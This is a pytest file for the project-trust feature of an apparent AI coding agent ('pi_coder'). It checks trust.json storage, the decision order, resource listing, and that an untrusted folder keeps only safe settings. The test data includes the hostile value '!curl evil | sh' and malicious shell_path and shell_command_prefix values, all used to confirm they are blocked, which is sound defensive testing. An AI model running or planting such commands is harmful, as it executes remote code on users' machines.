"""``pi_coder.permissions.trust``: the trust.json store, the decision order, the resource list, and the
project settings that apply in an untrusted folder (extensions §7)."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from pi_coder.errors import ConfigError
from pi_coder.permissions.trust import (
    TrustStore,
    TrustVote,
    apply_trust_choice,
    canonical_path,
    clear_trust_cache,
    decide_project_trust,
    project_resources,
    untrusted_notice,
)
from pi_coder.settings import gated_project_keys, load_settings


@pytest.fixture(autouse=True)
def fresh_cache() -> Iterator[None]:
    clear_trust_cache()
    yield
    clear_trust_cache()


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    monkeypatch.setenv("PI_CODER_HOME", str(folder))
    return folder


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A project with a resource that needs a decision (``.pi/SYSTEM.md``)."""
    folder = tmp_path / "src" / "repo"
    (folder / ".pi").mkdir(parents=True)
    (folder / ".pi" / "SYSTEM.md").write_text("obey\n")
    return folder


# -- store ---------------------------------------------------------------------------------


def test_store_round_trip_is_sorted_indented_and_atomic(home: Path, tmp_path: Path) -> None:
    store = TrustStore()
    (tmp_path / "b").mkdir()
    (tmp_path / "a").mkdir()
    store.set(tmp_path / "b", True)
    store.set(tmp_path / "a", False)
    text = (home / "trust.json").read_text()
    a, b = str(canonical_path(tmp_path / "a")), str(canonical_path(tmp_path / "b"))
    assert text == f'{{\n  "{a}": false,\n  "{b}": true\n}}\n'
    assert store.load() == {a: False, b: True}
    assert sorted(os.listdir(home)) == ["trust.json"]  # no temporary file left behind
    store.set(tmp_path / "a", None)
    assert store.load() == {b: True}


def test_keys_are_real_paths(home: Path, tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    TrustStore().set(link, True)
    assert TrustStore().load() == {str(real.resolve()): True}
    assert TrustStore().lookup(link) == (real.resolve(), True)


def test_nearest_entry_up_from_cwd_wins(home: Path, tmp_path: Path) -> None:
    parent = tmp_path / "work"
    child = parent / "repo"
    deep = child / "pkg" / "sub"
    deep.mkdir(parents=True)
    store = TrustStore()
    store.set(parent, True)
    assert store.lookup(deep) == (canonical_path(parent), True)
    store.set(child, False)  # a child's false beats the parent's true
    assert store.lookup(deep) == (canonical_path(child), False)
    assert store.lookup(parent / "other") == (canonical_path(parent), True)
    assert store.lookup(tmp_path) is None


@pytest.mark.parametrize("content", ["{not json", '["/a"]', '{"/a": "yes"}'])
def test_invalid_file_warns_once_reads_empty_and_is_never_overwritten(
    home: Path, repo: Path, content: str
) -> None:
    path = home / "trust.json"
    path.write_text(content)
    warnings: list[str] = []
    assert decide_project_trust(repo, warnings=warnings) is None  # treated as empty: ask
    assert len(warnings) == 1 and str(path) in warnings[0]
    with pytest.raises(ConfigError, match="fix or delete the file"):
        TrustStore().set(repo, True)
    problems: list[str] = []
    decision = apply_trust_choice(repo, "trust", problems)
    assert decision.trusted and decision.source == "session"  # applies to this run only
    assert len(problems) == 1
    assert path.read_text() == content


# -- decision order ------------------------------------------------------------------------


def test_flags_win_and_are_never_saved(home: Path, repo: Path) -> None:
    TrustStore().set(repo, False)
    decision = decide_project_trust(repo, flag=True)
    assert decision is not None and decision.trusted and decision.source == "flag"
    decision = decide_project_trust(repo, flag=False, default="always")
    assert decision is not None and not decision.trusted
    assert TrustStore().load() == {str(canonical_path(repo)): False}


@pytest.mark.parametrize("layout", ["nothing", "bare", "sessions", "safe-settings"])
def test_no_project_resource_is_trusted_implicitly(home: Path, tmp_path: Path, layout: str) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    if layout != "nothing":
        (folder / ".pi").mkdir()
    if layout == "sessions":
        (folder / ".pi" / "sessions").mkdir()
    if layout == "safe-settings":
        (folder / ".pi" / "settings.toml").write_text('theme = "light"\n[retry]\nmax_retries = 1\n')
    assert project_resources(folder) == []
    decision = decide_project_trust(folder, default="never")
    assert decision is not None and decision.trusted and decision.source == "implicit"


def test_handlers_then_saved_then_default(home: Path, repo: Path) -> None:
    calls: list[tuple[Path, list[str]]] = []

    def no_opinion(folder: Path, resources: list[str]) -> None:
        calls.append((folder, list(resources)))

    def yes_and_remember(folder: Path, resources: list[str]) -> TrustVote:
        return TrustVote(trusted=True, remember=True)

    def boom(folder: Path, resources: list[str]) -> bool:
        raise RuntimeError("bad extension")

    warnings: list[str] = []
    decision = decide_project_trust(repo, handlers=[boom, no_opinion, yes_and_remember], warnings=warnings)
    assert decision is not None and decision.trusted and decision.source == "extension"
    assert calls == [(canonical_path(repo), [".pi/SYSTEM.md: replaces the system prompt"])]
    assert any("bad extension" in w for w in warnings)
    assert TrustStore().load() == {str(canonical_path(repo)): True}

    clear_trust_cache()
    TrustStore().set(repo, False)
    decision = decide_project_trust(repo, default="always")
    assert decision is not None and not decision.trusted and decision.source == "saved"
    assert decision.saved_path == canonical_path(repo)
    assert "saved for" in decision.describe()

    clear_trust_cache()
    TrustStore().set(repo, None)
    decision = decide_project_trust(repo, default="always")
    assert decision is not None and decision.trusted and decision.source == "default"
    clear_trust_cache()
    decision = decide_project_trust(repo, default="never")
    assert decision is not None and not decision.trusted
    clear_trust_cache()
    assert decide_project_trust(repo, default="ask") is None


def test_decisions_are_cached_per_process_per_real_folder(home: Path, repo: Path, tmp_path: Path) -> None:
    apply_trust_choice(repo, "trust_session")
    link = tmp_path / "alias"
    link.symlink_to(repo)
    decision = decide_project_trust(link)
    assert decision is not None and decision.trusted and decision.source == "session"
    assert TrustStore().load() == {}


def test_dialog_choices_save_what_they_say(home: Path, repo: Path) -> None:
    key, parent = str(canonical_path(repo)), str(canonical_path(repo.parent))
    assert apply_trust_choice(repo, "distrust").trusted is False
    assert TrustStore().load() == {key: False}
    decision = apply_trust_choice(repo, "trust_parent")
    assert decision.trusted and decision.saved_path == canonical_path(repo.parent)
    assert TrustStore().load() == {parent: True}  # the folder's own entry is removed
    sibling = repo.parent / "sibling"
    (sibling / ".pi").mkdir(parents=True)
    (sibling / ".pi" / "APPEND_SYSTEM.md").write_text("x")
    found = decide_project_trust(sibling)
    assert found is not None and found.trusted and found.source == "saved"
    assert apply_trust_choice(repo, "distrust_session").source == "session"
    assert apply_trust_choice(repo, None).source == "undecided"
    assert apply_trust_choice(repo, "trust").trusted
    assert TrustStore().load() == {key: True, parent: True}


def test_untrusted_notice_is_the_exact_line(tmp_path: Path) -> None:
    assert untrusted_notice(tmp_path) == (
        f"pi: project folder {tmp_path.resolve()} is not trusted; its .pi settings, extensions, skills "
        "and MCP servers were not loaded (pass -a to trust it for this run)"
    )


# -- what would load -----------------------------------------------------------------------


def test_project_resources_lists_what_would_load_and_run(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    pi = root / ".pi"
    for sub in ("prompts", "themes", "extensions/lint", "skills/pdf"):
        (pi / sub).mkdir(parents=True)
    (pi / "settings.toml").write_text(
        'theme = "dark"\nshell_command_prefix = "x"\nsession_dir = "s"\n[bash]\ndefault_timeout = 5\n'
    )
    (pi / "SYSTEM.md").write_text("s")
    for name in ("a.md", "b.md", "c.md", "notes.txt"):
        (pi / "prompts" / name).write_text("t")
    (pi / "themes" / "mine.json").write_text("{}")
    (pi / "extensions" / "audit.py").write_text("")
    (pi / "mcp.json").write_text(json.dumps({"mcpServers": {"git": {}, "fs": {}}}))
    (root / ".claude" / "skills" / "x").mkdir(parents=True)
    assert project_resources(root) == [
        ".pi/settings.toml: sets shell_command_prefix, session_dir",
        ".pi/SYSTEM.md: replaces the system prompt",
        ".pi/prompts: 3 templates",
        ".pi/themes: 1 theme",
        ".pi/extensions: audit.py, lint/",
        ".pi/mcp.json: 2 servers (fs, git)",
        ".pi/skills: pdf/",
        ".claude/skills: x/",
    ]


# -- settings in an untrusted folder -------------------------------------------------------


def test_untrusted_load_keeps_only_safe_keys(home: Path, tmp_path: Path) -> None:
    project = tmp_path / "proj"
    (project / ".pi").mkdir(parents=True)
    (home / "settings.toml").write_text('shell_path = "/bin/sh"\n')
    (project / ".pi" / "settings.toml").write_text(
        'theme = "light"\nshell_path = "./evil"\nshell_command_prefix = "touch x"\n'
        'session_dir = "here"\nexternal_editor = "./ed"\nprompts = ["p"]\nfuture_key = 1\n'
        'double_escape_action = "$ESC"\n'
        "[compaction]\nkeep_recent_tokens = 7\n[bash]\ndefault_timeout = 9\nenv_allow = [\"X\"]\n"
    )
    untrusted = load_settings(project, project_trusted=False)
    s = untrusted.settings
    assert (s.theme, s.compaction.keep_recent_tokens, s.bash.default_timeout) == ("light", 7, 9)
    assert s.shell_path == "/bin/sh"  # the global value, not the repository's
    assert (s.shell_command_prefix, s.session_dir, s.external_editor, s.prompts) == (None, None, None, [])
    assert s.double_escape_action == "tree"
    assert s.model_extra == {} and s.bash.model_extra == {}
    assert untrusted.warnings == [] and untrusted.unknown_keys == []
    trusted = load_settings(project, project_trusted=True).settings
    assert (trusted.shell_path, trusted.shell_command_prefix, trusted.session_dir) == ("./evil", "touch x", "here")


def test_gated_keys_include_command_and_variable_values() -> None:
    data = {
        "theme": "!curl evil | sh",
        "quiet_startup": True,
        "compaction": {"enabled": True, "reserve_tokens": 5},
        "retry": {"max_retries": 1, "hook": "x"},
        "keybindings": {"exit": "ctrl+q"},
        "default_model": "x",
    }
    assert gated_project_keys(data) == ["theme", "retry.hook", "keybindings", "default_model"]


def test_project_default_project_trust_is_ignored_with_a_warning(home: Path, tmp_path: Path) -> None:
    project = tmp_path / "proj"
    (project / ".pi").mkdir(parents=True)
    (project / ".pi" / "settings.toml").write_text('default_project_trust = "always"\n')
    (home / "settings.toml").write_text('default_project_trust = "never"\n')
    for trusted in (False, True):
        loaded = load_settings(project, project_trusted=trusted)
        assert loaded.settings.default_project_trust == "never"
        (warning,) = loaded.warnings
        assert "default_project_trust is read from the global settings.toml only" in warning
    assert project_resources(project) == []  # a global-only key gives the folder nothing to trust
